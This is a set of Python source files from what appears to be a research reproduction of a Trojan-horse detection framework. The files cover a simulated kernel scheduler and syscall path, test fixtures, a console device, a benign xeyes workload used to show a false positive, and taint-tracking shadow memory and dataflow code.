            proc.meta[_PROC_SPAN_KEY] = self.tracer.start(
                f"pid{proc.pid} {proc.command}",
                CATEGORY_PROCESS,
                self.now,
                tid=proc.pid,
                command=proc.command,
            )

    def _install_stdio(self, proc: Process) -> None:
        proc.install_fd(
            OpenFile(ResourceKind.CONSOLE, "STDIN", console_role="stdin"),
            fd=0,
        )
        proc.install_fd(
            OpenFile(ResourceKind.CONSOLE, "STDOUT", console_role="stdout"),
            fd=1,
        )
        proc.install_fd(
            OpenFile(ResourceKind.CONSOLE, "STDERR", console_role="stderr"),
            fd=2,
        )

    def _announce_load(self, proc: Process, load: LoadResult) -> None:
        for loaded in load.image_map:
            self.hooks.on_image_load(proc, loaded)
        start, end = load.initial_stack_range
        self.hooks.on_initial_stack(proc, start, end)

    def fork_process(self, parent: Process) -> Process:
        memory = parent.memory.copy()
        cpu = parent.cpu.copy(memory)
        cpu.regs.set("eax", 0)  # child's fork() return value
        child = Process(
            pid=self._next_pid,
            ppid=parent.pid,
            memory=memory,
            cpu=cpu,
            command=parent.command,
            argv=parent.argv,
            env=parent.env,
            start_time=self.now,
        )
        self._next_pid += 1
        child.image_map = parent.image_map
        # Translated blocks are immutable and the address space layout is
        # copied verbatim, so the child shares the parent's cache.
        child.block_cache = parent.block_cache
        child.brk = parent.brk
        child.next_fd = parent.next_fd
        for fd, open_file in parent.fds.items():
            open_file.refcount += 1
            child.fds[fd] = open_file
        self.procs[child.pid] = child
        self.hooks.on_fork(parent, child)
        self.hooks.on_process_start(child)
        self._telemetry_process_start(child)
        return child

    def exec_process(
        self,
        proc: Process,
        path: str,
        argv: Sequence[str],
        env: Dict[str, str],
    ) -> int:
        """Replace ``proc``'s image.  Returns 0 or a negative errno."""
        image = self.binaries.get(path)
        if image is None:
            node = self.fs.lookup(path)
            if node is None:
                return -ENOENT
            if node.kind is not NodeKind.FILE:
                return -EACCES
            if not node.is_executable():
                return -EACCES
            return -ENOEXEC  # a file, executable, but not a real program
        self.hooks.on_exec(proc, path)
        memory = FlatMemory()
        load = self.loader.load(memory, image, list(argv), dict(env))
        cpu = CPU(memory, entry=load.entry)
        cpu.regs.set("esp", load.initial_sp)
        proc.memory = memory
        proc.cpu = cpu
        proc.command = path
        proc.argv = list(argv)
        proc.env = dict(env)
        proc.image_map = load.image_map
        proc.brk = load.heap_base
        proc.start_time = self.now
        if self.use_block_cache:
            # The old image's translations are invalid for the new address
            # space: swap to the new image's (shared) cache.  Counted as a
            # flush — this is the "Infrequent execve" cost of the paper's
            # Table 8 in code-cache terms.
            proc.block_cache = self._block_cache_for(image, load.image_map)
            self.block_cache_flushes += 1
            if self._metrics is not None:
                self._c_bc_flushes.inc()
        self._announce_load(proc, load)
        return 0

    def exit_process(self, proc: Process, code: int) -> None:
        if proc.state is ProcessState.EXITED:
            return
        proc.state = ProcessState.EXITED
        proc.exit_code = code
        for fd in list(proc.fds):
            open_file = proc.remove_fd(fd)
            if open_file is not None:
                self.release_open_file(open_file)
        self.hooks.on_process_exit(proc, code)
        if self._metrics is not None:
            self._c_exited.inc()
        if self.tracer is not None:
            span = proc.meta.pop(_PROC_SPAN_KEY, None)
            if span is not None:
                self.tracer.end(span, self.now, exit_code=code)

    def kill(self, proc: Process, code: int, by_monitor: bool = False) -> None:
        if by_monitor:
            proc.killed_by_monitor = True
        self.exit_process(proc, code)

    def release_open_file(self, open_file: OpenFile) -> None:
        """Called when an fd referencing this description was closed."""
        if open_file.refcount > 0:
            return
        if open_file.kind is ResourceKind.FIFO and open_file.node is not None:
            if open_file.readable():
                open_file.node.fifo_readers -= 1
            if open_file.writable():
                open_file.node.fifo_writers -= 1
        if open_file.connection is not None:
            open_file.connection.close()

    # -- queries -----------------------------------------------------------------
    def live_processes(self) -> List[Process]:
        return [p for p in self.procs.values() if p.alive()]

    def faults(self) -> List[Tuple[int, str]]:
        return list(self._fault_log)

    # -- scheduler ---------------------------------------------------------------
    def run(
        self,
        max_ticks: int = 5_000_000,
        wall_timeout: Optional[float] = None,
    ) -> RunResult:
        """Round-robin schedule until everything exits (or deadlock/budget).

        ``wall_timeout`` (seconds of real time) arms a watchdog: a guest
        that outlives it yields a ``'watchdog'`` result instead of hanging
        the caller.  Checked once per scheduler pass, so the overshoot is
        at most one quantum per runnable process.
        """
        if self.tracer is None and self.profiler is None:
            return self._run_loop(max_ticks, wall_timeout)
        run_span = (
            self.tracer.start("kernel.run", CATEGORY_RUN, self.now)
            if self.tracer is not None else None
        )
        wall_start = _time.perf_counter()
        try:
            result = self._run_loop(max_ticks, wall_timeout)
        finally:
            if self.profiler is not None:
                self.profiler.add_run(_time.perf_counter() - wall_start)
            if self.tracer is not None:
                # Close any process spans the run left open (max-ticks,
                # deadlock) so they export; then the run span itself.
                for proc in self.procs.values():
                    span = proc.meta.pop(_PROC_SPAN_KEY, None)
                    if span is not None:
                        self.tracer.end(span, self.now, still_running=True)
                if run_span is not None:
                    self.tracer.end(
                        run_span, self.now, instructions=self.instructions
                    )
        return result

    def _run_loop(
        self,
        max_ticks: int,
        wall_timeout: Optional[float],
    ) -> RunResult:
        deadline = self.now + max_ticks
        wall_deadline = (
            _time.monotonic() + wall_timeout
            if wall_timeout is not None else None
        )
        while self.now < deadline:
            if (wall_deadline is not None
                    and _time.monotonic() >= wall_deadline):
                return self._result("watchdog")
            self.network.deliver_due(self.now)
            self._wake_sleepers()
            self._retry_blocked()
            runnable = [
                p for p in self.procs.values()
                if p.state is ProcessState.RUNNABLE
            ]
            if not runnable:
                live = self.live_processes()
                if not live:
                    return self._result("all-exited")
                if not self._advance_idle_clock(live):
                    return self._result("deadlock")
                continue
            for proc in runnable:
                if proc.state is ProcessState.RUNNABLE:
                    self._run_quantum(proc, deadline)
                if self.now >= deadline:
                    break
        return self._result("max-ticks")

    def _result(self, reason: str) -> RunResult:
        return RunResult(
            reason=reason,
            ticks=self.now,
            instructions=self.instructions,
            exit_codes={p.pid: p.exit_code for p in self.procs.values()},
        )

    def _wake_sleepers(self) -> None:
        for proc in self.procs.values():
            if (
                proc.state is ProcessState.SLEEPING
                and proc.wake_time <= self.now
            ):
                proc.state = ProcessState.RUNNABLE

    def _advance_idle_clock(self, live: List[Process]) -> bool:
        """Jump the clock to the next wake/network event; False if none."""
        candidates: List[int] = []
        for proc in live:
            if proc.state is ProcessState.SLEEPING:
                candidates.append(proc.wake_time)
        event_time = self.network.next_event_time()
        if event_time is not None:
            candidates.append(event_time)
        if not candidates:
            return False
        target = min(candidates)
        if target <= self.now:
            # The pending event is already due but undeliverable (e.g. a
            # scheduled connect with no listener) — advancing time cannot
            # make progress.
            return False
        self.now = target
        return True

    def _run_quantum(self, proc: Process, deadline: int) -> None:
        if self._metrics is None:
            self._exec_quantum(proc, deadline)
            return
        start = self.instructions
        try:
            self._exec_quantum(proc, deadline)
        finally:
            executed = self.instructions - start
            self._c_quanta.inc()
            if executed:
                self._c_instructions.inc(executed)
                self._h_quantum.observe(executed)

    def _exec_quantum(self, proc: Process, deadline: int) -> None:
        if proc.block_cache is None:
            self._exec_quantum_interp(proc, deadline)
            return
        quantum = self.quantum
        if self.fault_injector is not None:
            quantum = self.fault_injector.quantum(quantum)
        budget = quantum
        hooks = self.hooks
        while budget > 0:
            if proc.state is not ProcessState.RUNNABLE or self.now >= deadline:
                return
            # Re-read per iteration: a syscall may have execve'd into a
            # different image (new cpu, new cache).
            cache = proc.block_cache
            cpu = proc.cpu
            try:
                plan = cache.lookup(cpu.memory, cpu.pc)
            except MemoryFault as fault:
                # Interpreter parity: an unmapped fetch halts the CPU and
                # faults with the fetch message, pc unchanged.
                cpu.halted = True
                self._fault_log.append((proc.pid, str(fault)))
                if self._metrics is not None:
                    self._c_cpu_faults.inc()
                self.exit_process(proc, EXIT_FAULT)
                return
            limit = deadline - self.now
            if budget < limit:
                limit = budget
            rec = plan.execute(cpu, limit)
            executed = rec.executed
            self.now += executed
            self.instructions += executed
            budget -= executed
            hooks.on_block(proc, rec)
            kind = rec.kind
            if kind == BLOCK_CONTINUE or kind == BLOCK_BUDGET:
                continue
            if kind == BLOCK_SYSCALL:
                self._service_syscall(proc)
            elif kind == BLOCK_HALT:
                self._fault_log.append((proc.pid, "HLT executed"))
                self.exit_process(proc, EXIT_FAULT)
                return
            else:  # BLOCK_FAULT
                self._fault_log.append((proc.pid, str(rec.fault)))
                if self._metrics is not None:
                    self._c_cpu_faults.inc()
                self.exit_process(proc, EXIT_FAULT)
                return

    def _exec_quantum_interp(self, proc: Process, deadline: int) -> None:
        """The original per-instruction interpreter loop (no block cache).

        Kept verbatim as the reference semantics: the differential suite
        runs every workload through both paths and asserts identical
        reports.
        """
        quantum = self.quantum
        if self.fault_injector is not None:
            quantum = self.fault_injector.quantum(quantum)
        for _ in range(quantum):
            if proc.state is not ProcessState.RUNNABLE or self.now >= deadline:
                return
            try:
                step = proc.cpu.step()
            except CpuFault as fault:
                self._fault_log.append((proc.pid, str(fault)))
                if self._metrics is not None:
                    self._c_cpu_faults.inc()
                self.exit_process(proc, EXIT_FAULT)
                return
            self.now += 1
            self.instructions += 1
            self.hooks.on_instruction(proc, step)
            if step.kind is StepKind.SYSCALL:
                self._service_syscall(proc)
            elif step.kind is StepKind.HALT:
                self._fault_log.append((proc.pid, "HLT executed"))
                self.exit_process(proc, EXIT_FAULT)
                return

    # -- syscall plumbing ---------------------------------------------------------
    def _service_syscall(self, proc: Process) -> None:
        regs = proc.cpu.regs
        sysno = regs.get("eax")
        args = tuple(regs.get(r) for r in SYSCALL_ARG_REGISTERS)
        info = self.syscalls.describe(proc, sysno, args)
        name = str(info.get("name", sysno))
        if self._metrics is not None:
            counter = self._syscall_counters.get(sysno)
            if counter is None:
                counter = self._metrics.counter(
                    "kernel_syscalls_total", name=name
                )
                self._syscall_counters[sysno] = counter
            counter.inc()
        span = None
        if self.tracer is not None:
            span = self.tracer.start(
                name,
                CATEGORY_SYSCALL,
                self.now,
                parent=proc.meta.get(_PROC_SPAN_KEY),
                tid=proc.pid,
                sysno=sysno,
            )
            self.current_syscall_span = span
        try:
            allowed = self.hooks.on_syscall_pre(proc, sysno, args, info)
            if not allowed:
                self.kill(proc, EXIT_KILLED_BY_MONITOR, by_monitor=True)
                if span is not None:
                    self.tracer.end(span, self.now, vetoed=True)
                return
            self._attempt_syscall(proc, sysno, args, info)
        finally:
            if span is not None:
                self.current_syscall_span = None
                if not span.finished:
                    blocked = proc.state is ProcessState.BLOCKED
                    self.tracer.end(span, self.now, blocked=blocked)

    def _attempt_syscall(
        self,
        proc: Process,
        sysno: int,
        args: Tuple[int, int, int, int, int],
        info: Dict[str, object],
    ) -> None:
        if self._metrics is not None:
            if "path" in info:
                self._c_fs.inc()
            if "socketcall" in info or sysno == SYS_RESOLVE:
                self._c_net.inc()
        try:
            injected = None
            if self.fault_injector is not None:
                injected = self.fault_injector.before_syscall(
                    self.now, proc, sysno, args, info
                )
            if injected is not None:
                # The monitor saw the attempt (pre-event already fired);
                # the injected errno replaces the handler's execution.
                result, extra = injected, {"injected_fault": True}
                if self._metrics is not None:
                    self._c_injected.inc()
            else:
                result, extra = self.syscalls.dispatch(proc, sysno, args)
        except WouldBlock as block:
            proc.state = ProcessState.BLOCKED
            proc.pending = PendingSyscall(sysno, args)
            proc.meta["pending_info"] = info
            proc.meta["pending_reason"] = block.reason
            return
        proc.pending = None
        merged = {**info, **extra}
        if result is not NO_RESULT and proc.alive():
            proc.cpu.regs.set("eax", result)
        self.hooks.on_syscall_post(
            proc, sysno, args, 0 if result is NO_RESULT else result, merged
        )

    def _retry_blocked(self) -> None:
        for proc in list(self.procs.values()):
            if proc.state is not ProcessState.BLOCKED or proc.pending is None:
                continue
            pending = proc.pending
            info = proc.meta.get("pending_info", {})
            # Optimistically mark runnable; _attempt re-blocks on WouldBlock.
            proc.state = ProcessState.RUNNABLE
            span = None
            if self.tracer is not None:
                span = self.tracer.start(
                    str(info.get("name", pending.sysno)),
                    CATEGORY_SYSCALL,
                    self.now,
                    parent=proc.meta.get(_PROC_SPAN_KEY),
                    tid=proc.pid,
                    retry=True,
                )
                self.current_syscall_span = span
            try:
                self._attempt_syscall(proc, pending.sysno, pending.args, info)
            finally:
                if span is not None:
                    self.current_syscall_span = None
                    if not span.finished:
                        self.tracer.end(
                            span,
                            self.now,
                            blocked=proc.state is ProcessState.BLOCKED,
                        )
