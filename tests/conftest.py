"""Shared test helpers: assemble-and-run plumbing for guest programs."""

from __future__ import annotations

from typing import Dict, Optional, Sequence

import pytest

from repro.core.hth import HTH
from repro.core.report import RunReport
from repro.isa.assembler import assemble
from repro.kernel.kernel import Kernel
from repro.programs.libc import libc_image


class GuestRunner:
    """Builds an HTH machine per call and runs a small assembly program."""

    def run(
        self,
        source: str,
        path: str = "/bin/test_prog",
        argv: Optional[Sequence[str]] = None,
        env: Optional[Dict[str, str]] = None,
        stdin: Optional[str] = None,
        setup=None,
        hth: Optional[HTH] = None,
        max_ticks: int = 2_000_000,
        **hth_kwargs,
    ) -> RunReport:
        machine = hth or HTH(**hth_kwargs)
        if setup is not None:
            setup(machine)
        report = machine.run(
            assemble(path, source),
            argv=argv,
            env=env,
            stdin=stdin,
            max_ticks=max_ticks,
        )
        self.last_machine = machine
        return report


@pytest.fixture
def guest() -> GuestRunner:
    return GuestRunner()


@pytest.fixture
def bare_kernel() -> Kernel:
    """A kernel with libc but no monitor."""
    return Kernel(libraries=[libc_image()])
