"""Console device: scripted stdin, captured stdout/stderr.

Tests and benchmarks provide user input up front with
:meth:`Console.provide_input` and assert on :meth:`Console.output_text`.
Reads from an exhausted stdin return EOF rather than blocking, so
non-interactive programs terminate cleanly.
"""

from __future__ import annotations

from typing import List, Tuple


class Console:
    def __init__(self) -> None:
        self._input = bytearray()
        #: (pid, data) in write order — lets tests attribute output.
        self.outputs: List[Tuple[int, bytes]] = []

    def provide_input(self, data) -> None:
        """Queue user keystrokes (str or bytes)."""
        if isinstance(data, str):
            data = data.encode()
        self._input.extend(data)

    def pending_input(self) -> int:
        return len(self._input)

    def read(self, count: int) -> bytes:
        """Consume up to ``count`` input bytes (empty result == EOF)."""
        take = self._input[:count]
        del self._input[:count]
        return bytes(take)

    def read_line(self, max_count: int) -> bytes:
        """Consume up to one line (including the newline), canonical-tty
        style, limited to ``max_count`` bytes."""
        newline = self._input.find(b"\n")
        if newline == -1:
            end = min(len(self._input), max_count)
        else:
            end = min(newline + 1, max_count)
        take = self._input[:end]
        del self._input[:end]
        return bytes(take)

    def write(self, pid: int, data: bytes) -> int:
        self.outputs.append((pid, bytes(data)))
        return len(data)

    def output_bytes(self, pid: int = None) -> bytes:
        chunks = [
            data for out_pid, data in self.outputs
            if pid is None or out_pid == pid
        ]
        return b"".join(chunks)

    def output_text(self, pid: int = None) -> str:
        return self.output_bytes(pid).decode(errors="replace")
