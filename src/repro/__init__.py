"""repro — reproduction of *Hunting Trojan Horses* (Moffie & Kaeli, 2006).

HTH is a security framework that detects Trojan Horses and Backdoors by
combining **Harrier**, a run-time monitor tracking multi-source
information flow, basic-block frequency, and system/library calls, with
**Secpert**, a CLIPS-style expert system implementing the security policy.

Quickstart::

    from repro import HTH, Verdict
    from repro.isa import assemble

    hth = HTH()
    report = hth.run(assemble("/bin/prog", PROGRAM_SOURCE))
    print(report.verdict, report.render_warnings())

The paper's substrate (x86 + PIN + Linux + CLIPS) is replaced by simulated
equivalents — see DESIGN.md for the substitution map.
"""

from repro.core import (
    EngineCache,
    HTH,
    RunOptions,
    RunReport,
    Verdict,
    run_monitored,
)
from repro.harrier import Harrier, HarrierConfig
from repro.secpert import PolicyConfig, Secpert, SecurityWarning, Severity

__version__ = "1.1.0"

__all__ = [
    "HTH",
    "run_monitored",
    "RunOptions",
    "EngineCache",
    "RunReport",
    "Verdict",
    "Harrier",
    "HarrierConfig",
    "Secpert",
    "PolicyConfig",
    "Severity",
    "SecurityWarning",
    "__version__",
]
