"""xeyes analogue (paper section 8.2.11).

The real xeyes produced several *Low* false positives: X11 protocol bytes
— data hardcoded in the (untrusted) X11 shared objects — written to the
local X server socket.  We reproduce the structure: the program links
against a ``libX11.so`` guest shared object whose drawing routine writes
its own hardcoded protocol data to a hardcoded LocalHost socket.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.hth import HTH

from typing import List

from repro.core.report import Verdict
from repro.kernel.network import SinkPeer
from repro.programs.base import Workload

X11_PORT = 6000

LIBX11_SOURCE = r"""
; libX11.so: minimal "X protocol" client library.  The protocol bytes are
; hardcoded here - in a shared object the policy does NOT trust - which
; is exactly what made the real xeyes warn.
x11_connect:               ; x11_connect() -> eax = fd to the X server
    push ebx
    push ecx
    push edx
    mov ebx, x_host
    call gethostbyname
    mov ecx, eax
    call socket
    mov ebx, eax
    mov edx, 6000
    call connect_addr
    mov eax, ebx
    pop edx
    pop ecx
    pop ebx
    ret

x11_draw:                  ; x11_draw(ebx=fd): send a draw request
    push ecx
    push edx
    mov ecx, xreq
    mov edx, 8
    call write
    pop edx
    pop ecx
    ret
.data
x_host: .asciz "LocalHost"
xreq:   .word 1, 0, 11, 0, 120, 101, 121, 101
"""

XEYES_SOURCE = r"""
; xeyes: connect to the X server through libX11 and draw a few frames
main:
    call x11_connect
    mov esi, eax
    mov edi, 0
frame:
    cmp edi, 3
    jge done
    mov ebx, esi
    call x11_draw
    add edi, 1
    jmp frame
done:
    mov ebx, esi
    call close
    mov eax, 0
    ret
"""


def _setup(hth: HTH) -> None:
    hth.network.add_peer("LocalHost", X11_PORT, lambda: SinkPeer("Xserver"))


def x11_workloads() -> List[Workload]:
    return [
        Workload(
            name="xeyes",
            program_path="/usr/bin/xeyes",
            source=XEYES_SOURCE,
            description="X client writing libX11-hardcoded protocol bytes "
                        "to the local X socket (acceptable Low FPs)",
            setup=_setup,
            expected_verdict=Verdict.LOW,
            expected_rules=("check_binary_to_socket",),
            extra_libraries=(("/usr/lib/libX11.so", LIBX11_SOURCE),),
        ),
    ]
