"""Shadow state: per-register and per-memory-cell tag storage.

Harrier (paper section 7.3.1) "tags each register and memory location with
one or more data sources".  The shadow structures here are the backing store
for that: a :class:`ShadowRegisters` map for the CPU's register file and a
:class:`ShadowMemory` map for the flat address space.

``ShadowMemory`` is a *paged* sparse store: the address space is carved
into fixed-size pages (:data:`PAGE_SIZE` cells) and only pages holding at
least one non-empty tag set exist at all.  That gives the dataflow stage
three properties the flat dict could not:

* range operations (``union_of_range``/``set_range``/``get_range``) skip
  absent pages wholesale, so untainting or summarizing a large buffer
  costs O(live cells), not O(range length);
* "can this block's loads touch tainted memory" is an O(#loads)
  page-presence check (see ``page_live``), the gate of the monitor's
  zero-taint fast path;
* ``copy()`` — hit on every fork — shares pages copy-on-write instead of
  deep-copying a flat dict; a forked process that never writes a page
  never pays for it.

Untagged locations implicitly carry the empty tag set, and the store
maintains the invariant that no *empty* page is ever resident, so page
absence always means "clean".
"""

from __future__ import annotations

from typing import Dict, Iterator, List, Optional, Set, Tuple

from repro.taint.tags import EMPTY, TagSet

#: log2 of the page size.  64 cells per page keeps pages small enough
#: that partially-tainted buffers stay precise, while a guest data
#: section or read() buffer spans only a handful of pages.
PAGE_SHIFT = 6
PAGE_SIZE = 1 << PAGE_SHIFT
_PAGE_MASK = PAGE_SIZE - 1


class ShadowRegisters:
    """Tag set per register name."""

    __slots__ = ("_tags", "gen")

    def __init__(self) -> None:
        self._tags: Dict[str, TagSet] = {}
        #: Mutation generation, bumped on every *value-changing* write
        #: (idempotent re-writes keep it stable).  The compiled summary
        #: appliers pair it with the ``_tags`` dict's identity to prove
        #: "the register file cannot have changed since my last
        #: application" without re-reading any register.  Every mutation
        #: path — :meth:`set`, :meth:`clear`, and the appliers' raw-dict
        #: writes — must maintain it.
        self.gen = 0

    def get(self, reg: str) -> TagSet:
        return self._tags.get(reg, EMPTY)

    def set(self, reg: str, tags: TagSet) -> None:
        if tags.is_empty():
            if self._tags.pop(reg, None) is not None:
                self.gen += 1
        else:
            prev = self._tags.get(reg)
            if prev is not tags and prev != tags:
                self._tags[reg] = tags
                self.gen += 1

    def clear(self) -> None:
        if self._tags:
            self._tags.clear()
            self.gen += 1

    def any_live(self, regs) -> bool:
        """True when at least one of ``regs`` carries a non-empty tag."""
        tags = self._tags
        if not tags:
            return False
        for reg in regs:
            if reg in tags:
                return True
        return False

    def snapshot(self) -> Dict[str, TagSet]:
        """A shallow copy of the live entries (TagSets are immutable)."""
        return dict(self._tags)

    def copy(self) -> "ShadowRegisters":
        dup = ShadowRegisters()
        dup._tags = dict(self._tags)
        return dup

    def __len__(self) -> int:
        """Number of registers carrying a non-empty tag set."""
        return len(self._tags)

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        inner = ", ".join(f"{r}={t}" for r, t in sorted(self._tags.items()))
        return f"ShadowRegisters({inner})"


class ShadowMemory:
    """Tag set per memory address (sparse, paged, copy-on-write).

    ``_pages`` maps page number (``addr >> PAGE_SHIFT``) to a dict of
    absolute address -> non-empty :class:`TagSet`.  ``_owned`` tracks
    which resident pages this instance may mutate in place: ``None``
    means *all of them* (the common, never-forked case, so the hot
    write path pays nothing); after :meth:`copy` both siblings share
    every page and clone one lazily on first write.
    """

    __slots__ = ("_pages", "_owned")

    def __init__(self) -> None:
        self._pages: Dict[int, Dict[int, TagSet]] = {}
        self._owned: Optional[Set[int]] = None

    # -- page plumbing -----------------------------------------------------
    def _writable(self, pno: int) -> Optional[Dict[int, TagSet]]:
        """The page dict for ``pno``, cloned first if shared."""
        page = self._pages.get(pno)
        if page is None:
            return None
        owned = self._owned
        if owned is not None and pno not in owned:
            page = dict(page)
            self._pages[pno] = page
            owned.add(pno)
        return page

    def _create(self, pno: int) -> Dict[int, TagSet]:
        page: Dict[int, TagSet] = {}
        self._pages[pno] = page
        if self._owned is not None:
            self._owned.add(pno)
        return page

    def _drop(self, pno: int) -> None:
        del self._pages[pno]
        if self._owned is not None:
            self._owned.discard(pno)

    def _page_range(self, start: int, length: int) -> Iterator[int]:
        """Resident page numbers intersecting [start, start+length),
        ascending — iterates whichever is smaller: the span or the
        resident set."""
        first = start >> PAGE_SHIFT
        last = (start + length - 1) >> PAGE_SHIFT
        pages = self._pages
        if last - first + 1 <= len(pages):
            for pno in range(first, last + 1):
                if pno in pages:
                    yield pno
        else:
            for pno in sorted(pages):
                if first <= pno <= last:
                    yield pno

    # -- cell access -------------------------------------------------------
    def get(self, addr: int) -> TagSet:
        page = self._pages.get(addr >> PAGE_SHIFT)
        if page is None:
            return EMPTY
        return page.get(addr, EMPTY)

    def probe(self, addr: int) -> Optional[TagSet]:
        """The cell's tags, or ``None`` when untagged.

        The hot paths (batched dataflow, string scans) bind this once
        per block; two dict probes, no EMPTY sentinel allocation.
        """
        page = self._pages.get(addr >> PAGE_SHIFT)
        if page is None:
            return None
        return page.get(addr)

    def page_live(self, addr: int) -> bool:
        """Could ``addr`` be tainted?  Page-granularity, conservative:
        True whenever the containing page is resident."""
        return (addr >> PAGE_SHIFT) in self._pages

    @property
    def cell_tags(self) -> Dict[int, TagSet]:
        """A flat addr -> TagSet snapshot of every live cell.

        Built on demand from the pages — bulk-scan/diffing use only
        (tests, fingerprints).  Hot paths bind :meth:`probe` instead.
        """
        flat: Dict[int, TagSet] = {}
        for page in self._pages.values():
            flat.update(page)
        return flat

    def set(self, addr: int, tags: TagSet) -> None:
        pno = addr >> PAGE_SHIFT
        if tags.is_empty():
            page = self._writable(pno)
            if page is None:
                return
            if page.pop(addr, None) is not None and not page:
                self._drop(pno)
            return
        page = self._pages.get(pno)
        if page is None:
            self._pages[pno] = {addr: tags}
            if self._owned is not None:
                self._owned.add(pno)
            return
        self._writable(pno)[addr] = tags

    # -- range operations ---------------------------------------------------
    def set_range(self, start: int, length: int, tags: TagSet) -> None:
        """Tag ``length`` consecutive cells starting at ``start``.

        Clearing (``tags`` empty) costs O(live cells in range): only
        resident pages are visited, fully-covered pages are dropped
        wholesale, and partially-covered ones clear live cells, not the
        whole span.
        """
        if length < 0:
            raise ValueError(f"negative length {length}")
        if length == 0:
            return
        end = start + length
        if tags.is_empty():
            for pno in list(self._page_range(start, length)):
                page_lo = pno << PAGE_SHIFT
                page_hi = page_lo + PAGE_SIZE
                if start <= page_lo and page_hi <= end:
                    self._drop(pno)
                    continue
                page = self._writable(pno)
                lo = max(start, page_lo)
                hi = min(end, page_hi)
                if len(page) <= hi - lo:
                    for addr in [a for a in page if lo <= a < hi]:
                        del page[addr]
                else:
                    for addr in range(lo, hi):
                        page.pop(addr, None)
                if not page:
                    self._drop(pno)
            return
        addr = start
        while addr < end:
            pno = addr >> PAGE_SHIFT
            hi = min(end, (pno + 1) << PAGE_SHIFT)
            page = self._writable(pno)
            if page is None:
                page = self._create(pno)
            for a in range(addr, hi):
                page[a] = tags
            addr = hi

    def get_range(self, start: int, length: int) -> Tuple[TagSet, ...]:
        if length <= 0:
            return ()
        out: List[TagSet] = []
        end = start + length
        addr = start
        pages = self._pages
        while addr < end:
            pno = addr >> PAGE_SHIFT
            hi = min(end, (pno + 1) << PAGE_SHIFT)
            page = pages.get(pno)
            if page is None:
                out.extend([EMPTY] * (hi - addr))
            else:
                get = page.get
                out.extend(get(a, EMPTY) for a in range(addr, hi))
            addr = hi
        return tuple(out)

    def union_of_range(self, start: int, length: int) -> TagSet:
        """Union of the tags over a region (the tag of the region's data).

        Early-exits when the store is empty or no resident page
        intersects the range; otherwise walks live cells, not addresses.
        """
        if length <= 0 or not self._pages:
            return EMPTY
        result = EMPTY
        end = start + length
        for pno in self._page_range(start, length):
            page = self._pages[pno]
            page_lo = pno << PAGE_SHIFT
            if start <= page_lo and page_lo + PAGE_SIZE <= end:
                for ts in page.values():
                    result = result.union(ts)
                continue
            lo = max(start, page_lo)
            hi = min(end, page_lo + PAGE_SIZE)
            if len(page) <= hi - lo:
                for addr, ts in page.items():
                    if lo <= addr < hi:
                        result = result.union(ts)
            else:
                get = page.get
                for addr in range(lo, hi):
                    ts = get(addr)
                    if ts is not None:
                        result = result.union(ts)
        return result

    def clear(self) -> None:
        self._pages.clear()
        self._owned = None

    def live_cells(self) -> Iterator[Tuple[int, TagSet]]:
        """Iterate the non-empty entries (sorted by address)."""
        items: List[Tuple[int, TagSet]] = []
        for page in self._pages.values():
            items.extend(page.items())
        return iter(sorted(items))

    def copy(self) -> "ShadowMemory":
        """A copy-on-write twin: pages are shared until either side
        writes one (fork's shadow copy becomes O(#pages))."""
        dup = ShadowMemory()
        dup._pages = dict(self._pages)
        dup._owned = set()
        self._owned = set()
        return dup

    def copy_within(self, src: int, dst: int, length: int) -> None:
        """Copy tags for a memory-to-memory move (memcpy semantics)."""
        if length <= 0:
            return
        # Nothing to move and nothing to clear: both ranges clean.
        if not any(True for _ in self._page_range(src, length)) and not any(
            True for _ in self._page_range(dst, length)
        ):
            return
        # Read first so overlapping regions behave like memmove.
        tags = self.get_range(src, length)
        for i, ts in enumerate(tags):
            self.set(dst + i, ts)

    # -- stats --------------------------------------------------------------
    def page_stats(self) -> Dict[str, int]:
        """Resident-page footprint (telemetry's page gauges)."""
        return {
            "pages": len(self._pages),
            "cells": len(self),
            "page_size": PAGE_SIZE,
        }

    def __len__(self) -> int:
        return sum(len(page) for page in self._pages.values())

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return (
            f"ShadowMemory(<{len(self)} tagged cells in "
            f"{len(self._pages)} pages>)"
        )
