"""Instruction-level dataflow tracking (paper section 7.3.1).

Replays the CPU's :class:`TaintTransfer` records over the process shadow
state.  The interesting cases, matching the paper's examples:

* ``mov %esp,%ebp`` — destination inherits the source register's tags;
* ``movl $0x4, mem`` — an immediate carries the BINARY tag of the image
  that contains the instruction;
* ``add %ebx,%eax`` — destination gets the *union* of both operands' tags;
* ``cpuid`` — the output registers get the HARDWARE tag.
"""

from __future__ import annotations

from typing import Dict

from repro.harrier.state import ProcessShadow
from repro.isa.cpu import StepResult
from repro.taint.tags import EMPTY, DataSource, TagSet

_HARDWARE = TagSet.of(DataSource.HARDWARE)


class InstructionDataFlow:
    """Stateless transfer interpreter (tag caches only)."""

    def __init__(self) -> None:
        self._binary_tags: Dict[str, TagSet] = {}

    def binary_tag(self, image_name: str) -> TagSet:
        tags = self._binary_tags.get(image_name)
        if tags is None:
            tags = TagSet.of(DataSource.BINARY, image_name)
            self._binary_tags[image_name] = tags
        return tags

    def apply(self, shadow: ProcessShadow, step: StepResult) -> None:
        transfers = step.transfers
        if not transfers:
            return
        regs = shadow.regs
        memory = shadow.memory
        imm_tags: TagSet = None  # lazily resolved per step
        for transfer in transfers:
            tags = EMPTY
            for src in transfer.srcs:
                kind = src[0]
                if kind == "reg":
                    tags = tags.union(regs.get(src[1]))
                elif kind == "mem":
                    tags = tags.union(memory.get(src[1]))
                elif kind == "imm":
                    if imm_tags is None:
                        image = shadow.code_image.get(step.pc)
                        imm_tags = (
                            self.binary_tag(image.name)
                            if image is not None
                            else EMPTY
                        )
                    tags = tags.union(imm_tags)
                elif kind == "hardware":
                    tags = tags.union(_HARDWARE)
                # 'zero' contributes nothing (xor r,r / call return slots)
            dst = transfer.dst
            if dst[0] == "reg":
                regs.set(dst[1], tags)
            else:
                memory.set(dst[1], tags)

    # -- helpers used by the event generator --------------------------------
    @staticmethod
    def string_tags(proc, shadow: ProcessShadow, addr: int,
                    max_len: int = 4096) -> TagSet:
        """Union of shadow tags over the NUL-terminated string at ``addr``.

        This is "the data source of the resource ID" (paper section 5.1):
        e.g. the provenance of a file-name string passed to open().
        """
        tags = EMPTY
        memory = proc.memory
        shadow_mem = shadow.memory
        for i in range(max_len):
            if memory.read(addr + i) == 0:
                break
            tags = tags.union(shadow_mem.get(addr + i))
        return tags

    @staticmethod
